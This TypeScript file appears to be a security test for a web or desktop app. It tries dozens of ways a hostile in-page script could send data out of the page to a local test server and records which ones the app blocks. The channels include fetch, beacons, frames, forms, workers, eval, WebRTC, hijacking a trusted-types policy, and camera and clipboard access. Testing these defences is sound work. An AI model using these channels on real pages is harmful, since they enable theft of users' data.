// An attacker does what we do not.
/* oxlint-disable no-eval, no-new-func, no-restricted-properties, typescript/no-implied-eval */

/** Every way known to us in which a script could send something out of its page, by name. Runs in the page. */
export async function sendEveryWay(port: number): Promise<Record<string, string>> {
  const at = (way: string): string => `http://127.0.0.1:${port}/${way}?stolen`
  const insert = (name: string, attributes: Record<string, string>): HTMLElement => {
    const element = document.createElement(name)
    for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value)
    document.body.append(element)
    return element
  }
  const style = (text: string): void => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(text)
    document.adoptedStyleSheets.push(sheet)
    insert('div', { class: 'hostile', style: text.startsWith('.') ? text.slice(text.indexOf('{') + 1, -1) : '' })
  }
  const form = (attributes: Record<string, string>): void => {
    const element = insert('form', attributes) as HTMLFormElement // created as one just above
    element.append(insert('input', { name: 'stolen', value: 'yes' }))
    element.submit()
  }
  // The one policy of trusted types that the pages allow, taken by the attacker before the app could.
  type Policy = { readonly createScriptURL: (url: string) => string }
  const { trustedTypes } = window as unknown as {
    readonly trustedTypes: { readonly createPolicy: (name: string, rules: Policy) => Policy }
  }
  const { createScriptURL } = trustedTypes.createPolicy('fobsheet-worker', { createScriptURL: (url) => url })
  const ways: Readonly<Record<string, () => unknown>> = {
    fetch: () => fetch(at('fetch')),
    fetchNoCors: () => fetch(at('fetch-no-cors'), { mode: 'no-cors', method: 'POST', body: 'stolen', keepalive: true }),
    xhr: () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest()
        request.addEventListener('load', resolve)
        request.addEventListener('error', reject)
        request.open('POST', at('xhr'))
        request.send('stolen')
      }),
    webSocket: () => opened(new WebSocket(`ws://127.0.0.1:${port}/socket`)),
    eventSource: () => opened(new EventSource(at('events'))),
    beacon: () => navigator.sendBeacon(at('beacon'), 'stolen') || Promise.reject(new Error('not queued')),
    image: () => loaded(insert('img', { src: at('image') })),
    video: () => loaded(insert('video', { src: at('video'), autoplay: '' })),
    object: () => loaded(insert('object', { data: createScriptURL(at('object')) })),
    embed: () => loaded(insert('embed', { src: createScriptURL(at('embed')) })),
    styleSheet: () => loaded(insert('link', { rel: 'stylesheet', href: at('sheet') })),
    prefetch: () => loaded(insert('link', { rel: 'prefetch', href: at('prefetch') })),
    preload: () => loaded(insert('link', { rel: 'preload', as: 'fetch', href: at('preload') })),
    modulePreload: () => loaded(insert('link', { rel: 'modulepreload', href: at('module-preload') })),
    preconnect: () => loaded(insert('link', { rel: 'preconnect', href: at('preconnect') })),
    dnsPrefetch: () => loaded(insert('link', { rel: 'dns-prefetch', href: at('dns') })),
    icon: () => loaded(insert('link', { rel: 'icon', href: at('icon') })),
    manifest: () => loaded(insert('link', { rel: 'manifest', href: at('manifest') })),
    cssUrl: () => style(`.hostile { background-image: url("${at('css')}"); }`),
    cssImport: () => void (insert('style', {}).textContent = `@import url("${at('css-import')}");`),
    font: async () => {
      const font = new FontFace('hostile', `url("${at('font')}")`)
      document.fonts.add(font)
      await font.load()
    },
    script: () => loaded(insert('script', { src: createScriptURL(at('script')) })),
    worker: () => opened(new Worker(createScriptURL(at('worker')))),
    sharedWorker: () => opened(new SharedWorker(createScriptURL(at('shared-worker')))),
    blobWorker: () => opened(new Worker(createScriptURL(URL.createObjectURL(new Blob([`fetch("${at('blob')}")`]))))),
    serviceWorker: () => navigator.serviceWorker.register(createScriptURL('/service.js')),
    evaluated: () => (0, eval)(`fetch("${at('eval')}")`),
    functionText: () => new Function(`fetch("${at('function')}")`)(),
    markup: () => void (document.body.innerHTML += `<img src="${at('markup')}">`),
    frame: () => loaded(insert('iframe', { src: at('frame') })),
    frameText: () => loaded(insert('iframe', { srcdoc: `<img src="${at('srcdoc')}">` })),
    frameOfData: () => loaded(insert('iframe', { src: `data:text/html,<img src="${at('data')}">` })),
    webview: () => loaded(insert('webview', { src: at('webview') })),
    formPost: () => form({ action: at('form'), method: 'post' }),
    formToWindow: () => form({ action: at('form-window'), method: 'get', target: '_blank' }),
    link: () => insert('a', { href: at('link') }).click(),
    linkToWindow: () => insert('a', { href: at('link-window'), target: '_blank' }).click(),
    download: () => insert('a', { href: at('download'), download: 'stolen' }).click(),
    ping: () => insert('a', { href: at('pinged'), ping: at('ping') }).click(),
    metaRefresh: () => insert('meta', { 'http-equiv': 'refresh', content: `0;url=${at('meta')}` }),
    open: () => window.open(at('open')) ?? Promise.reject(new Error('no window')),
    openNamed: () => window.open(at('open-named'), 'other') ?? Promise.reject(new Error('no window')),
    assign: () => location.assign(at('assign')),
    replace: () => location.replace(at('replace')),
    href: () => void (location.href = at('href')),
    fileAddress: () => void (location.href = 'file:///etc/passwd'),
    dataAddress: () => void (location.href = 'data:text/html,<p>elsewhere</p>'),
    otherHost: () => void (location.href = 'app://elsewhere/index.html'),
    webRtc: async () => {
      const urls = [`stun:127.0.0.1:${port}`, `turn:127.0.0.1:${port}?transport=tcp`]
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] })
      peer.createDataChannel('stolen')
      await peer.setLocalDescription(await peer.createOffer())
      const sdp = `${peer.localDescription?.sdp ?? ''}a=candidate:1 1 udp 2122260223 127.0.0.1 ${port} typ host\r\n`
      const answerer = new RTCPeerConnection()
      await answerer.setRemoteDescription({ type: 'offer', sdp })
      await answerer.setLocalDescription(await answerer.createAnswer())
      await peer.setRemoteDescription(answerer.localDescription as RTCSessionDescription) // set just above
      await peer.addIceCandidate({ candidate: `candidate:1 1 udp 1 127.0.0.1 ${port} typ host`, sdpMid: '0' })
    },
    webTransport: () => new WebTransport(`https://127.0.0.1:${port}/transport`).ready,
    clipboard: () => navigator.clipboard.readText(),
    notification: async () =>
      (await Notification.requestPermission()) === 'granted' || Promise.reject(new Error('not granted')),
    camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
    screen: () => navigator.mediaDevices.getDisplayMedia(),
    place: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
    files: () => (window as unknown as { showOpenFilePicker: () => Promise<unknown> }).showOpenFilePicker(),
  }

  function opened(target: EventTarget): Promise<unknown> {
    return new Promise((resolve, reject) => {
      target.addEventListener('open', resolve)
      target.addEventListener('error', reject)
    })
  }
  function loaded(element: HTMLElement): Promise<unknown> {
    return new Promise((resolve, reject) => {
      for (const name of ['load', 'loadeddata']) element.addEventListener(name, resolve)
      element.addEventListener('error', reject)
    })
  }

  const results: Record<string, string> = {}
  for (const [name, way] of Object.entries(ways)) {
    const patience = new Promise((resolve) => setTimeout(() => resolve('nothing happened'), 150))
    try {
      const result = await Promise.race([way(), patience])
      results[name] = result === 'nothing happened' ? result : 'accepted'
    } catch (error) {
      results[name] = `refused: ${error instanceof Error ? error.message : 'event'}`
    }
  }
  return results
}
